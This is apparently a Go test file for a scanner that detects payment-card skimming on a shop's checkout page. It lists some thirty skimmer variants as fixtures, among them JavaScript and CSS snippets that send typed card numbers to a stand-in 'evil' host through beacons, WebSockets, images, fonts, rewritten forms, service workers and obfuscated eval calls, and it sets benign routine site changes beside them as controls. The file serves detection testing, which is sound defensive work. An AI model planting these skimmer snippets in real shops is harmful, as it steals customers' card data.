package payment_test

import "sotomi/scanner/payment"

// replica is a shop that steals card data in one of the ways that are known of real ones. What it steals would go to a host
// on this machine.
type replica struct {
	name    string
	altered shop
	to      only // whom it is shown to

	found     payment.Kind // how it differs from what was approved
	suspected payment.Sign // how it looks to somebody who does not know what was approved; "" when it cannot be told
	rendered  bool         // only a browser sees it
}

func replicas() []replica {
	inline := func(code string) shop { return genuine().page("<script>"+code+"</script>", "") }
	bundle := func(code string) shop {
		return genuine().with(shop{"shop/assets/app-3f2a9c1b.js": genuine()["shop/assets/app-3f2a9c1b.js"] + code})
	}
	const steal = `document.addEventListener("change", function (e) { navigator.sendBeacon("{evil}/c", e.target.value); });`
	return []replica{
		{name: "injected by the tag manager", altered: genuine().with(shop{
			"tags/4.1.0/tag.js": `var s = document.createElement("script"); s.src = "{evil}/t.js"; document.head.appendChild(s);`, "evil/t.js": steal,
		}), found: payment.KindListener, suspected: payment.SignListener, rendered: true},
		{name: "a socket", altered: inline(`var w = new WebSocket("{evil}/s".replace("http", "ws")); document.addEventListener("input", function (e) { w.send(e.target.value); });`), found: payment.KindInlineScript, suspected: payment.SignCode},
		{name: "an image that carries the number, in the shop's bundle", altered: bundle(`document.addEventListener("blur", function (e) { new Image().src = "{evil}/i.gif?" + e.target.value; }, true);`), found: payment.KindChanged, suspected: payment.SignCode},
		{name: "a form over the provider's frame", altered: genuine().page("", `<div style="position:absolute;top:0"><form action="{evil}/pay" method="post"><input name="cardnumber"><input name="cvv"></form></div>`), found: payment.KindFormCard, suspected: payment.SignForm},
		{name: "a service worker", altered: inline(`navigator.serviceWorker.register("/sw.js");`).with(shop{
			"shop/sw.js": `self.addEventListener("fetch", function (e) { if (e.request.method === "POST") { e.request.clone().text().then(function (value) { fetch("{evil}/w", {method: "POST", body: value}); }); } });`,
		}), found: payment.KindInlineScript},
		{name: "on the later visit only", altered: inline(steal), to: whoReturn, found: payment.KindInlineScript, suspected: payment.SignCode},
		{name: "for visitors from a search engine only", altered: inline(steal), to: fromSearch, found: payment.KindInlineScript, suspected: payment.SignCode},
		{name: "on a phone only", altered: genuine().page(`<script src="{evil}/m.js"></script>`, "").with(shop{"evil/m.js": steal}), to: onPhones, found: payment.KindForeignScript, suspected: payment.SignSometimes},
		{name: "base64 in a comment", altered: inline(`/*bmV3IEltYWdlKCkuc3JjPSIvL2V2aWwubG9jYWxob3N0L2M/Iitkb2N1bWVudC5xdWVyeVNlbGVjdG9yKCIjbiIpLnZhbHVl*/eval(atob(document.currentScript.text.slice(2, 102)));`), found: payment.KindInlineScript, suspected: payment.SignHidden},
		{name: "a font that carries the number", altered: inline(`document.querySelector("#n").onkeyup = function () { new FontFace("x", "url({evil}/f?" + this.value + ")").load(); };`), found: payment.KindInlineScript, suspected: payment.SignCode},
		{name: "styles that ask for a picture by what is typed", altered: genuine().page(`<style>input[name="cvc"][value^="4"] { background: url("{evil}/4.png") }</style>`, ""), found: payment.KindHost, suspected: payment.SignStyle},
		{name: "an element that takes the place of a setting", altered: genuine().with(shop{
			"shop/checkout": replaced(genuine()["shop/checkout"], `<link rel="stylesheet"`, `<a id="sdk" href="{evil}/sdk.js"></a><link rel="stylesheet"`), "evil/sdk.js": steal,
		}), found: payment.KindListener, suspected: payment.SignListener, rendered: true},
		{name: "handlers in attributes", altered: genuine().page("", `<input name="card_number2" autocomplete="cc-number" onblur="new Image().src='{evil}/b?'+this.value">`), found: payment.KindInlineScript, suspected: payment.SignCode},
		{name: "the target of the form is rewritten when it is sent", altered: inline(`addEventListener("submit", function (e) { e.target.action = "{evil}/pay"; e.target.card_number.value += ""; }, true);`), found: payment.KindInlineScript, suspected: payment.SignCode},
		{name: "it waits for the fields to appear", altered: bundle(`new MutationObserver(function () { document.querySelectorAll("input").forEach(function (i) { i.onchange = function () { fetch("{evil}/m?" + i.value); }; }); }).observe(document, {childList: true, subtree: true});`), found: payment.KindChanged, suspected: payment.SignCode},
		{name: "a beacon in a new file of the shop", altered: genuine().page(`<script src="/assets/stats.js"></script>`, "").with(shop{"shop/assets/stats.js": steal}), found: payment.KindOwnScript, suspected: payment.SignCode},
		{name: "a form in a document within an attribute", altered: genuine().page("", `<iframe srcdoc="&lt;form action='{evil}/p'&gt;&lt;input name=card_number&gt;&lt;/form&gt;"></iframe>`), found: payment.KindFormCard, suspected: payment.SignForm},
		{name: "code that was kept in the browser", altered: inline(`localStorage.t = localStorage.t || "ZmV0Y2goIi8vZXZpbC5sb2NhbGhvc3QvbCIse21ldGhvZDoiUE9TVCIsYm9keTpuZXcgRm9ybURhdGEob3JkZXIpfSk="; eval(atob(localStorage.t));`), found: payment.KindInlineScript, suspected: payment.SignHidden},
		{name: "a host that looks like another", altered: genuine().page(`<script src="{g00gle-analytics}/ga.js"></script>`, "").with(shop{"g00gle-analytics/ga.js": `window.ga = 1;`}), found: payment.KindForeignScript, suspected: payment.SignLookAlike},
		{name: "code that the page of what is not there carries", altered: inline(`fetch("/no-such-page").then(function (r) { return r.text(); }).then(function (t) { Function(atob(t.split("COOKIE_ANNOT")[1]))(); });`), found: payment.KindInlineScript},
		{name: "another account of the tag manager", altered: genuine().with(shop{"shop/checkout": replaced(genuine()["shop/checkout"], "GTM-ABC123", "GTM-EVIL99")}), found: payment.KindForeignScript},
		{name: "the form sends elsewhere", altered: genuine().with(shop{"shop/checkout": replaced(genuine()["shop/checkout"], `action="/checkout/confirm`, `action="{evil}/confirm`)}), found: payment.KindFormCard, suspected: payment.SignForm},
		{name: "a new build that steals", altered: genuine().with(shop{
			"shop/checkout": replaced(genuine()["shop/checkout"], "app-3f2a9c1b", "app-77aa01bc"), "shop/assets/app-77aa01bc.js": steal,
		}), suspected: payment.SignCode},
		{name: "modules come from elsewhere", altered: genuine().page(`<script type="importmap">{"imports": {"pay": "{evil}/pay.js"}}</script><script type="module">import "pay";</script>`, "").with(shop{"evil/pay.js": steal}), found: payment.KindInlineScript},
		{name: "a file of a vendor without its hash", altered: genuine().with(shop{"shop/checkout": cutOut(genuine()["shop/checkout"], ` integrity="`, `"`)}), found: payment.KindIntegrity},
		{name: "the policy of the page is gone", altered: genuine().with(shop{"header/Content-Security-Policy": "none"}), found: payment.KindHeader},
		{name: "numbers that spell code", altered: inline(`eval(String.fromCharCode(110,101,119,32,73,109,97,103,101,40,41,46,115,114,99,61,39,47,47,101,118,105,108,46,108,111,99,97,108,104,111,115,116,47,99,63,39,43,110,46,118,97,108,117,101));`), found: payment.KindInlineScript, suspected: payment.SignHidden},
		{name: "a style sheet of the shop that asks for a picture by what is typed", altered: genuine().with(shop{
			"shop/css/shop.css": `body { color: #222 } input[name="card_number"][value^="4"] { background: url("{evil}/4.png") }`,
		}), found: payment.KindHost, suspected: payment.SignStyle},
		{name: "a style sheet that another one imports", altered: genuine().with(shop{
			"shop/css/shop.css": `@import "more.css"; body { color: #222 }`, "shop/css/more.css": `@media screen { #n[\76 alue$='4'] ~ p { content: URL({evil}/4) } }`,
		}), found: payment.KindHost, suspected: payment.SignStyle},
		{name: "fonts for each figure in a style sheet", altered: genuine().with(shop{
			"shop/css/shop.css": `@font-face { font-family: f; src: url({evil}/0); unicode-range: U+30 } @font-face { font-family: f; src: url({evil}/1); unicode-range: U+31 } @font-face { font-family: f; src: url({evil}/2); unicode-range: U+32 } input { font-family: f }`,
		}), found: payment.KindHost, suspected: payment.SignStyle},
		{name: "a style sheet of another host", altered: genuine().page(`<link rel="stylesheet" href="{evil}/theme.css">`, "").with(shop{
			"evil/theme.css": `input[name="cvc"][value="123"] { background: url(/123.png) }`,
		}), found: payment.KindHost},
		{name: "a style sheet in an address", altered: genuine().page(`<link rel="stylesheet" href="data:text/css,input%5Bvalue%5E=%224%22%5D%7Bbackground:url({evil}/4)%7D">`, ""), found: payment.KindHost, suspected: payment.SignStyle},
		{name: "a line more in the script of the data layer", altered: genuine().with(shop{"shop/checkout": replaced(genuine()["shop/checkout"], `total: 1200`, `total: fetch("{evil}/d?" + n.value)`)}), found: payment.KindChangedInline, suspected: payment.SignCode},
	}
}

// deploy is what shops change every day.
type deploy struct {
	name    string
	changed shop
	to      only
}

func deploys() []deploy {
	page := func(old, new string) shop {
		return genuine().with(shop{"shop/checkout": replaced(genuine()["shop/checkout"], old, new)})
	}
	const app = `<script src="/assets/app-3f2a9c1b.js"></script>`
	return []deploy{
		{name: "a new build", changed: page("app-3f2a9c1b", "app-9e01bb7d").with(shop{"shop/assets/app-9e01bb7d.js": `var build = 2; document.addEventListener("submit", function () {});`})},
		{name: "a new version in the query", changed: page("v=20261101", "v=20261127").with(shop{"shop/js/cart.js": `var cart = {count: 2, gift: true};`})},
		{name: "nonces", changed: page(`<script>window`, `<script nonce="Zm9vYmFy">window`)},
		{name: "another nonce in the policy", changed: genuine().with(shop{"shop/unused": ""})},
		{name: "another variant of a test", changed: page(`page: "checkout"`, `page: "checkout", variant: "B"`)},
		{name: "a banner about cookies", changed: genuine().page("", `<div id="consent"><p>Cookieを使用します</p><button type="button">OK</button></div>`)},
		{name: "a banner on the first visit only", changed: genuine().page("", `<div id="consent">Cookie</div>`), to: func2(whoReturn)},
		{name: "another advertisement", changed: page("{ad1}/banner.gif", "{ad1}/banner2.gif?x=99")},
		{name: "another picture of an article", changed: page("/img/a.jpg", "/img/b.jpg")},
		{name: "a new release of the analytics", changed: page("/4.1.0/tag.js", "/4.2.0/tag.js").with(shop{"tags/4.2.0/tag.js": `window.tags = 2;`})},
		{name: "another token against forged requests", changed: page("a81f0c2291bb4e0fa81f0c2291bb4e0f", "0c77aa01bcde45f90c77aa01bcde45f9")},
		{name: "other data for search engines", changed: page(`"price": 1200`, `"price": 980, "availability": "https://schema.org/InStock"`)},
		{name: "another day", changed: page("2026-11-26", "2026-12-01")},
		{name: "another price", changed: page("total: 1200", "total: 98765.5")},
		{name: "more articles in the cart", changed: page(`{id: 1, name: "りんご"}`, `{id: 1, name: "りんご"}, {id: 77, name: "みかん", image: "/img/m.jpg"}`)},
		{name: "hints for the browser", changed: genuine().page(`<link rel="preload" as="script" href="/assets/app-3f2a9c1b.js"><link rel="preconnect" href="{tags}"><link rel="dns-prefetch" href="//fonts.example">`, "")},
		{name: "a comment in a script", changed: page(`<script>window.dataLayer`, "<script>/* data layer, build 7 */\n  window.dataLayer")},
		{name: "another style sheet", changed: page("/css/shop.css", "/css/winter.css").with(shop{"shop/css/winter.css": "body { color: #333 }"})},
		{name: "fonts of Google in the shop's style sheet", changed: genuine().with(shop{
			"shop/css/shop.css": `@font-face { font-family: "Noto Sans JP"; src: url(https://fonts.gstatic.com/s/a.0.woff2) format("woff2"); unicode-range: U+25ee8, U+25f23 } @font-face { font-family: "Noto Sans JP"; src: url(https://fonts.gstatic.com/s/a.1.woff2); unicode-range: U+30-39 }`,
		})},
		{name: "a sprite of icons", changed: genuine().with(shop{"shop/css/shop.css": `.icon { background: url("/img/sprite.svg") } .icon[data-name="cart"] { background-position: 0 -16px }`})},
		{name: "how strong a password is", changed: genuine().with(shop{"shop/css/shop.css": `.strength[data-score="3"] { background: url({cdn}/3.png) } input:valid { background: url({cdn}/ok.svg) } meter[value^="1"] { background: url({cdn}/weak.png) }`})},
		{name: "pictures of ways to pay", changed: genuine().with(shop{"shop/css/shop.css": `input[type="radio"][value="visa"] + label { background: url({cdn}/visa.png) } option[value^="1"] { background: url({cdn}/1.png) }`})},
		{name: "an imported style sheet", changed: genuine().with(shop{"shop/css/shop.css": `@import url("base.css"); body { color: #222 }`, "shop/css/base.css": `input[value^="4"] { background: url(/img/visa.png) }`})},
		{name: "another field in the order", changed: page(`<button>注文する`, `<input name="coupon"><button>注文する`)},
		{name: "another session in the address of the form", changed: page("sid=81f0c2291bb4e0fa", "sid=00aa11bb22cc33dd")},
		{name: "the search form moved", changed: page(`action="/products/list"`, `action="/search"`)},
		{name: "scripts in another order", changed: genuine().with(shop{"shop/checkout": replaced(replaced(genuine()["shop/checkout"], app, ""), "</head>", app+"</head>")})},
		{name: "an announcement", changed: genuine().page("", `<p class="news">年末年始の休業のお知らせ</p><a href="https://www.example.jp/news">詳細</a>`)},
		{name: "a hidden field more", changed: page(`<button>注文する`, `<input type="hidden" name="campaign" value="winter"><button>注文する`)},
	}
}
